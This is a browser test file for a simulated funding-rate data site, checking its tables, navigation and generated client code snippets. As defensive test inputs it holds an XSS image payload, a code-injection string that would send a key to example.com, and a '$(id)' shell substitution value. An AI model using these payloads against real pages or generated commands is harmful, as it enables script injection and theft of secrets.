import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXAMPLE_VENUES, exampleRow, exampleRows } from '../api/example-market.ts';
import { createFakeMarket } from '../api/fake-market.ts';
import { until } from '../until.ts';
import { hasChromium } from './browser.ts';
import { type PageServers, servePage } from './page-servers.ts';
import {
  expectQuiet,
  expectSound,
  expectSoundInTheDark,
  NARROW,
  openVisits,
  tableTexts,
  untilPlace,
  type Visits,
} from './visit.ts';

const HOSTILE = '<img src=x onerror=alert(1)>';

function marketWithHostileTexts() {
  const rows = [
    ...exampleRows(),
    exampleRow({ venue: 'binance', ticker: HOSTILE, slug: HOSTILE, rate: 0.001, hours: 8, mark: 1 }),
    exampleRow({ venue: 'bybit', ticker: HOSTILE, slug: HOSTILE, rate: -0.001, hours: 8, mark: 1 }),
  ];
  const market = createFakeMarket(EXAMPLE_VENUES, rows);
  market.remember(exampleRows());
  return market;
}

/** A fraction as the page writes it. */
function percent(fraction: number): string {
  const sign = fraction > 0 ? '+' : fraction < 0 ? '−' : '';
  const value = Math.abs(fraction * 100);
  return `${sign}${value.toFixed(value >= 10 ? 2 : 4)}`;
}

describe.skipIf(!hasChromium)(
  'the page in Chromium (skipped where there is none: apt-get install chromium)',
  () => {
    let servers: PageServers;
    let visits: Visits;
    const read = async <Body>(path: string): Promise<Body> =>
      (await fetch(servers.operator + path)).json() as Promise<Body>;

    beforeAll(async () => {
      servers = await servePage({ market: marketWithHostileTexts() });
      visits = await openVisits();
    });
    afterAll(async () => {
      await visits?.close();
      await servers?.close();
    });

    describe('home', () => {
      it('says that the data is simulated, and what each path costs', async () => {
        const made = await visits.open(servers.public);
        const { page } = made;
        await page.getByText('Simulated data.').waitFor();
        await page.getByRole('table', { name: 'Price list' }).waitFor();
        const { paths } = await read<{
          paths: Record<string, { get: { 'x-payment-info'?: { price: { amount: string } } } }>;
        }>('/openapi.json');
        const [, ...rows] = await tableTexts(page, 'Price list');
        const shown = Object.fromEntries(rows.map(([path, price]) => [path, price]));
        const expected = Object.entries(paths).map(([path, { get }]) => {
          const info = get['x-payment-info'];
          return [path, info === undefined ? 'free' : `$${info.price.amount}`];
        });
        expect(shown).toEqual(Object.fromEntries(expected));
        await expectSound(made);
      });

      it('shows the numbers of the preview', async () => {
        const { page } = await visits.open(servers.public);
        const { rates } = await read<{ rates: { symbol: string; venue: string; rate: number }[] }>(
          '/v1/preview/funding-current',
        );
        const [, ...rows] = await tableTexts(page, 'Sample of funding rates');
        expect(rows.map(([symbol, venue, rate]) => [symbol, venue, rate])).toEqual(
          rates.map(({ symbol, venue, rate }) => [symbol, venue, percent(rate)]),
        );
      });

      it('keeps the order of a table in the address', async () => {
        const { page } = await visits.open(servers.public);
        const sort = page.getByRole('table', { name: 'Price list' }).getByRole('button', { name: /^Price/ });
        await sort.click();
        await untilPlace(page, (hash) => hash === '#/?sort.prices=-price');
        await until(async () => {
          const [, first] = await tableTexts(page, 'Price list');
          expect(first?.[0]).toBe('/v1/stream/day');
        });
        await sort.press('Enter');
        await untilPlace(page, (hash) => hash === '#/?sort.prices=price');
      });

      it('says that the service is gone, and goes on when it is back', async () => {
        const { page, context } = await visits.open(servers.public);
        await page.getByRole('table', { name: 'Price list' }).waitFor();
        await context.setOffline(true);
        await page.getByText('offline', { exact: true }).waitFor();
        await context.setOffline(false);
        await page.getByText('offline', { exact: true }).waitFor({ state: 'detached' });
      });
    });

    describe('the funding matrix', () => {
      interface Row {
        readonly canonical_id: string;
        readonly symbol: string;
        readonly venue: string;
        readonly rate_8h: number | null;
        readonly uncomparable_reason?: string;
      }
      const cellOf = (rows: readonly Row[], ticker: string, venue: string): string => {
        const row = rows.find((row) => row.symbol === ticker && row.venue === venue);
        if (row === undefined) return 'not listed';
        if (row.rate_8h === null) return 'unknown';
        const stale = row.uncomparable_reason === 'stale' ? ' (stale)' : ' (not compared)';
        return percent(row.rate_8h) + (row.uncomparable_reason === undefined ? '' : stale);
      };

      it('a table: the numbers of the interface with their faults', async () => {
        const made = await visits.open(`${servers.operator}/#/matrix?min_oi=0&table=1&sort=asset`);
        const { rates } = await read<{ rates: readonly Row[] }>(
          '/v1/funding/current?include_uncomparable=true&limit=1000',
        );
        const [head = [], ...rows] = await tableTexts(made.page, 'Funding matrix');
        const venues = head.slice(8, -1);
        expect(rows.length).toBe(new Set(rates.map((row) => row.canonical_id)).size);
        expect(venues).toEqual(
          [...new Set(rates.map(({ venue }) => venue))].sort((a, b) => venues.indexOf(a) - venues.indexOf(b)),
        );
        const twice = new Set(
          rows.map(([ticker]) => ticker).filter((ticker, at, all) => all.indexOf(ticker) !== at),
        );
        for (const [ticker = '', ...cells] of rows.filter(([name]) => !twice.has(name))) {
          expect(cells.slice(7, -1), ticker).toEqual(venues.map((venue) => cellOf(rates, ticker, venue)));
        }
        await expectSound(made);
      });

      it('is walked by keyboard, which says what stands where', async () => {
        const made = await visits.open(`${servers.operator}/#/matrix?min_oi=0&sort=asset&q=BTC`);
        const { page } = made;
        const canvas = page.locator('canvas');
        await canvas.focus();
        for (let at = 0; at < 8; at += 1) await canvas.press('ArrowRight');
        const { rates } = await read<{ rates: readonly Row[] }>(
          '/v1/funding/current?symbol=BTC&venue=binance',
        );
        const said = page.locator('.grid-frame p[aria-live]');
        await said.filter({ hasText: 'BTC on binance' }).waitFor();
        expect(await said.textContent()).toContain(`${percent(rates[0]?.rate_8h ?? Number.NaN)} % per 8 h`);
        await canvas.press('Enter');
        await page
          .getByRole('region', { name: 'Chosen' })
          .getByRole('link', { name: 'All venues of BTC' })
          .waitFor();
        await untilPlace(page, (hash) => hash.includes('venue=binance'));
        await canvas.press('f');
        await page.getByLabel('Favourites only').check();
        await untilPlace(page, (hash) => hash.includes('only=crypto:BTC'));
        await expectSound(made);
      });

      it('draws texts of venues as texts', async () => {
        const made = await visits.open(`${servers.operator}/#/matrix?min_oi=0&table=1&q=onerror`);
        await made.page.getByRole('rowheader', { name: HOSTILE }).waitFor();
        expect(await made.page.locator('img').count()).toBe(0);
        await made.page.getByRole('button', { name: 'As matrix' }).click();
        await made.page.locator('canvas').click({ position: { x: 60, y: 12 } });
        await made.page
          .getByRole('region', { name: 'Chosen' })
          .getByRole('heading', { name: HOSTILE })
          .waitFor();
        expectQuiet(made);
      });

      it('opened by its address shows the same choice', async () => {
        const { page } = await visits.open(
          `${servers.operator}/#/matrix?scale=year&class=crypto&venues=binance,bybit&hold=30&min_oi=1`,
        );
        await page.getByRole('button', { name: 'year', pressed: true }).waitFor();
        expect(await page.getByLabel('Class').inputValue()).toBe('crypto');
        expect(await page.getByLabel('Hold').inputValue()).toBe('30');
        await page.getByRole('button', { name: /Sort by Net 30 d/ }).waitFor();
        await page.getByText('Venues: 2').waitFor();
      });

      it('is a sample, and says so, where it has not been bought', async () => {
        const { page } = await visits.open(`${servers.public}/#/matrix`, { viewport: NARROW });
        await page.getByText('Free, and delayed.').waitFor();
      });
    });

    describe('the view of a call', () => {
      it('text of its address: text in the program, unless a number', async () => {
        const foreign = '1 }); await fetch("//example.com?" + key';
        const query = new URLSearchParams({
          route: 'funding-current',
          'p.limit': foreign,
          'p.offset': '20',
          'p.settled_means': 'true',
          'p.include_uncomparable': 'key',
          'p.symbol': "BTC' '$(id)",
        });
        const { page } = await visits.open(`${servers.public}/#/buy?${query}`);
        await page.getByText("The same with this service's client").click();
        const said = (label: string) =>
          page.getByRole('region', { name: label }).locator('pre').textContent();
        const program = (await said("The call with this service's client")) ?? '';
        expect(program).toContain(`limit: ${JSON.stringify(foreign)}`);
        expect(program).toContain('offset: 20');
        expect(program).toContain('settled_means: true');
        expect(program).toContain('include_uncomparable: "key"');
        // Nothing of an address ends the quotes that it stands in.
        for (const label of ['The call as curl', 'The call as a command'])
          expect((await said(label))?.split("'"), label).toHaveLength(label.endsWith('curl') ? 3 : 5);
        expect(await said('The call as TypeScript')).toMatch(/await pay\("[^"\\]*"\);$/);
      });

      it('has a file where the format of a free answer is one', async () => {
        const { page } = await visits.open(`${servers.public}/#/buy?route=data-quality-units&p.format=csv`);
        await page.getByRole('button', { name: 'Ask', exact: true }).click();
        const file = await (await fetch(`${servers.public}/v1/data-quality/units?format=csv`)).text();
        await page.getByRole('button', { name: /^Save .*\.csv$/ }).waitFor();
        const shown = await page.getByRole('region', { name: 'The file' }).locator('pre').textContent();
        expect(shown?.split('\n')[0]).toBe(file.split('\n')[0]);
      });
    });

    it('has no finding in the dark and in a narrow window', async () => {
      const { operator } = servers;
      await expectSoundInTheDark(visits, [operator, `${operator}/#/matrix`, `${operator}/#/nothing`]);
    });
  },
);
